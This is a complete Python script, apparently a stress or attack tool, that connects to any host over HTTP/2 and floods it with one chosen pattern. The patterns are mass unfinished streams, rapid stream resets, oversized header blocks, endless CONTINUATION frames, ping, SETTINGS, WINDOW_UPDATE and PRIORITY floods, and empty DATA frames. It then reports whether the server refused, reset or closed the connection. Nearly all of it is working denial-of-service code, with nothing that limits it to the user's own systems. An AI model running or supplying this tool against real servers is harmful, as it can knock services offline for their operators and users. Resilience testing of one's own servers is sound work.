"""flood.py HOW HOST: is hostile over HTTP/2, then shows how that ended.

streams: opens 1000 requests at once whose bodies never end.
resets: opens and cancels 5000 requests.
headers: sends a request with 4 MiB of headers.
continuation: sends a head that never ends, in 10000 frames.
pings: sends 100000 pings without reading an answer.
settings, windows, priorities: the same with frames of those kinds.
empty: sends a body of 100000 frames with nothing in them.
"""
import socket
import ssl
import struct
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

how, host = sys.argv[1:]
context = ssl.create_default_context()
context.set_alpn_protocols(["h2"])
stream = context.wrap_socket(socket.create_connection((host, 443), 60), server_hostname=host)
stream.settimeout(60)
config = h2.config.H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False)
connection = h2.connection.H2Connection(config)
connection.initiate_connection()
stream.sendall(connection.data_to_send())
FIELDS = [(":method", "POST"), (":scheme", "https"), (":authority", host), (":path", "/flood")]


def frame(kind, flags, number, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", number) + payload


def streams():
    # Without asking how many the other side wants.
    for number in range(1, 2000, 2):
        block = connection.encoder.encode(FIELDS)
        stream.sendall(frame(1, 4, number, block))


def resets():
    for number in range(1, 10000, 2):
        block = connection.encoder.encode(FIELDS)
        stream.sendall(frame(1, 4, number, block) + frame(3, 0, number, struct.pack(">I", 8)))


def headers():
    many = [(f"x-{number}", "x" * 4000) for number in range(1000)]
    block = connection.encoder.encode(FIELDS + many)
    parts = [block[at : at + 16000] for at in range(0, len(block), 16000)]
    stream.sendall(frame(1, 1, 1, parts[0]))
    for part in parts[1:-1]:
        stream.sendall(frame(9, 0, 1, part))
    stream.sendall(frame(9, 4, 1, parts[-1]))


def continuation():
    stream.sendall(frame(1, 1, 1, connection.encoder.encode(FIELDS)))
    for _ in range(10000):
        stream.sendall(frame(9, 0, 1, b"\0\1x\x7f\0" + b"x" * 127))


def pings():
    for number in range(100000):
        stream.sendall(frame(6, 0, 0, struct.pack(">Q", number)))


def repeat(frame):
    for _ in range(1000):
        stream.sendall(frame * 100)


def ask(is_whole):
    connection.send_headers(1, FIELDS, end_stream=is_whole)
    stream.sendall(connection.data_to_send())


def end():
    connection.end_stream(1)
    stream.sendall(connection.data_to_send())


def settings():
    repeat(frame(4, 0, 0, struct.pack(">HI", 3, 100)))
    ask(True)


def windows():
    ask(False)
    repeat(frame(8, 0, 0, struct.pack(">I", 1)) + frame(8, 0, 1, struct.pack(">I", 1)))
    end()


def priorities():
    repeat(frame(2, 0, 3, struct.pack(">IB", 0, 7)))
    ask(True)


def empty():
    ask(False)
    repeat(frame(0, 0, 1, b""))
    end()


def listen():
    """Until the other side says that it has enough, or has answered."""
    refused = 0
    while more := stream.recv(65536):
        for event in connection.receive_data(more):
            if isinstance(event, h2.events.ConnectionTerminated):
                return f"connection ended with {event.error_code}"
            if isinstance(event, h2.events.StreamReset):
                refused += 1
            if isinstance(event, h2.events.ResponseReceived):
                return f"answered {dict(event.headers)[b':status'].decode()}"
            if refused >= 500:
                return "streams refused"
    return "closed"


try:
    globals()[how]()
    print(how, listen())
except (OSError, h2.exceptions.ProtocolError) as error:
    print(how, "failed:", error)
